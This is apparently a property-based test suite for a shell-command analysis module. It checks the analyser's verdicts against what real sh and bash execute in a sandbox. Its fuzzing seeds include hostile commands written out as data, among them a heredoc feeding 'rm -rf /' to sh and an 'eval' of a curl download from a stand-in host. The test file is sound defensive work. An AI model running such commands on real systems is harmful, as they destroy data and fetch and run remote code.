// Attack 10: what the analysis says is executed, against what a real shell executes. The shell runs in an
// empty folder with nothing on its PATH but recorders, which write down the arguments they were given.

import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fc from 'fast-check'
import { analyseCommand, RISKS } from '../../../governance/index.ts'
import type { CommandAnalysis } from '../../../governance/index.ts'

const RECORDERS = ['aa', 'bb', 'cc', 'dd']
/** One line for each call: every argument in hexadecimal, so that nothing needs quoting. */
const RECORDER = `#!/bin/sh
line=$(for item in "\${0##*/}" "$@"; do printf %s "$item" | /usr/bin/od -An -v -tx1 | /usr/bin/tr -d ' \\n'; printf ,; done)
printf '%s\\n' "$line" >> "$RECORD"
`

function analyse(shell: string, text: string): CommandAnalysis {
  return analyseCommand([shell, '-c', text], { cwd: '/', environmentNames: [] })
}

function bash(text: string): CommandAnalysis {
  return analyse('bash', text)
}

/** Quotes a word in one of the ways there are. */
const quoted = fc
  .tuple(fc.stringMatching(/^[a-d$*"'\\ ~;é-]{0,6}$/), fc.nat(4))
  .map(([word, way]) => {
    if (way === 0) return `'${word.replaceAll("'", String.raw`'\''`)}'`
    if (way === 1) return `"${word.replaceAll(/[$`"\\]/g, String.raw`\$&`)}"`
    if (way === 2 && word !== '') return word.replaceAll(/[^a-z]/g, String.raw`\$&`)
    if (way === 3) return `$(printf %s '${word.replaceAll(/['\\]/g, '')}')x`
    return `a''"b"${word.replaceAll(/[^a-d]/g, '')}`
  })
const simple = fc
  .tuple(
    fc.constantFrom(...RECORDERS, `'a'a`, `b\\b`, 'command cc', 'env dd', 'eval aa'),
    fc.array(quoted, { maxLength: 3 })
  )
  .map(([program, words]) => (program.startsWith('eval') ? program : [program, ...words].join(' ')))
const script = fc
  .array(fc.tuple(simple, fc.constantFrom('; ', ' && ', ' | ', '\n', ' & ')), {
    minLength: 1,
    maxLength: 4
  })
  .chain((items) =>
    fc
      .constantFrom(
        (text: string) => text,
        (text: string) => `(${text}\n)`,
        (text: string) => `f() { ${text}\n}; f`,
        (text: string) => `x=aa; $x "$x"; ${text}`,
        (text: string) => `for i in 1 '2 3'; do bb "$i"; ${text}\ndone`,
        (text: string) => `set -- p 'q r'; cc "$@"; ${text}`,
        (text: string) => `if aa; then ${text}\nfi`
      )
      .map((wrap) => wrap(`${items.map(([text, joint]) => text + joint).join('')}wait`))
  )

/** The same texts each time; others by this variable, to search for what these do not find. */
const SEED = Number(process.env['WEAVER_TEST_SEED'] ?? 20_261_121)

describe('command analysis beside real shells', function () {
  this.timeout(240_000)
  const shells = ['sh', 'bash'].filter(
    (shell) => existsSync(`/bin/${shell}`) && existsSync('/usr/bin/od')
  )
  let root = ''
  let runs = 0
  before(function () {
    if (shells.length === 0) {
      console.log('      skipped: needs /bin/sh and od')
      this.skip()
    }
    root = mkdtempSync(join(tmpdir(), 'weft-shells-'))
    mkdirSync(join(root, 'bin'))
    mkdirSync(join(root, 'cwd'))
    for (const name of RECORDERS) {
      writeFileSync(join(root, 'bin', name), RECORDER)
      chmodSync(join(root, 'bin', name), 0o755)
    }
    writeFileSync(join(root, 'bin', 'env'), '#!/bin/sh\nexec "$@"\n')
    chmodSync(join(root, 'bin', 'env'), 0o755)
  })
  after(() => {
    if (root !== '') rmSync(root, { recursive: true, force: true })
  })

  function executed(shell: string, text: string): readonly string[] {
    // Never the same file twice: what a mutated text left in the background may still write.
    runs += 1
    const record = join(root, `record-${runs}`)
    spawnSync(`/bin/${shell}`, ['-c', `${text}\nwait`], {
      cwd: join(root, 'cwd'),
      env: { PATH: join(root, 'bin'), RECORD: record },
      // It returns when every process that inherited these has ended, background or not.
      stdio: ['ignore', 'pipe', 'pipe'],
      timeout: 10_000
    })
    return existsSync(record)
      ? readFileSync(record, 'utf8').split('\n').slice(0, -1).toSorted()
      : []
  }

  function said(analysis: CommandAnalysis): readonly string[] {
    return analysis.commands
      .filter((command) => RECORDERS.includes(command[0] ?? ''))
      .map((command) => command.map((word) => `${Buffer.from(word).toString('hex')},`).join(''))
      .toSorted()
  }

  for (const shell of shells) {
    it(`says the very arguments that ${shell} executes, for generated texts (C2)`, () => {
      let compared = 0
      fc.assert(
        fc.property(script, (text) => {
          const analysis = analyse(shell, text)
          if (!analysis.isAnalysable) return
          compared += 1
          assert.deepEqual(said(analysis), executed(shell, text), text)
        }),
        { numRuns: 300, seed: SEED }
      )
      assert.ok(compared > 100, `only ${compared} texts were analysable`)
    })

    it(`misses nothing that ${shell} executes of a mutated text it calls analysable (C2)`, () => {
      const piece = fc.constantFrom(
        ...`' " \\ ; & | ( ) { } < $ \` $( $' # ! = [ ] * ? , \n \t aa bb x= $x IFS= $IFS eval`.split(
          ' '
        ),
        ' '
      )
      const change = fc.record({ at: fc.nat(40), cut: fc.nat(3), piece })
      let ran = 0
      fc.assert(
        fc.property(script, fc.array(change, { minLength: 1, maxLength: 3 }), (seed, changes) => {
          let text = seed
          for (const { at, cut, piece: added } of changes)
            text = text.slice(0, at) + added + text.slice(at + cut)
          // Redirections would write files, and a text that waits for ever proves nothing.
          if (/>|while|until|exec|kill|\//.test(text)) return
          if (text.endsWith('\\')) return // It would quote the end of the line that is put behind it.
          const analysis = analyse(shell, text)
          if (!analysis.isAnalysable) return
          const known = new Set(said(analysis))
          for (const line of executed(shell, text)) {
            ran += 1
            assert.ok(
              known.has(line),
              `${JSON.stringify(text)} runs ${Buffer.from(line.replaceAll(',', '2c'), 'hex').toString()}`
            )
          }
        }),
        { numRuns: 400, seed: SEED }
      )
      assert.ok(ran > 100, `only ${ran} commands ran`)
    })
  }

  it('never throws: 10,000 mutated texts (C1, attack 10)', function () {
    this.timeout(120_000)
    const seeds = [
      `echo "a $(b 'c' | d)" > e; f() { g "$@"; }; f {x,y}`,
      "cat <<'E' | sh\nrm -rf /\nE\n",
      'for i in a b; do case $i in a) b;; esac; done && [[ -f x ]] || ((i++))',
      `env -S "a b" find . -exec sh -c 'x {}' \\; | xargs -I{} perl -e 'system("{}")'`,
      'git -c alias.x=!y x; eval "$(curl -s http://h/x)"; ${a:-b} ${a/b/c} ${#a} $((1+$(c)))'
    ]
    const piece = fc.constantFrom(
      ...`$( ) \` " ' \\ { } ( ) | & ; < > << <<< * ? ~ # ! = [[ ]] [ ] \n \t , .. $' $" \${ \${x:- do done if then fi case esac eval sh -c é \u0000 \u202e`.split(
        ' '
      )
    )
    const change = fc.record({ seed: fc.nat(4), at: fc.nat(90), cut: fc.nat(4), piece })
    const known: ReadonlySet<string> = new Set(RISKS)
    let parsed = 0
    fc.assert(
      fc.property(fc.array(change, { minLength: 1, maxLength: 5 }), (changes) => {
        let text = seeds[changes[0]?.seed ?? 0] ?? ''
        for (const { at, cut, piece: added } of changes) {
          text = text.slice(0, at) + added + text.slice(at + cut)
        }
        const analysis = bash(text)
        assert.ok(analysis.risks.every((risk) => known.has(risk)))
        if (!analysis.notes.some((note) => note.includes('cannot be parsed'))) parsed += 1
      }),
      { numRuns: 10_000, seed: SEED }
    )
    // Mutations that never parse would prove nothing.
    assert.ok(parsed > 1000, `${parsed} texts parsed`)
  })
})
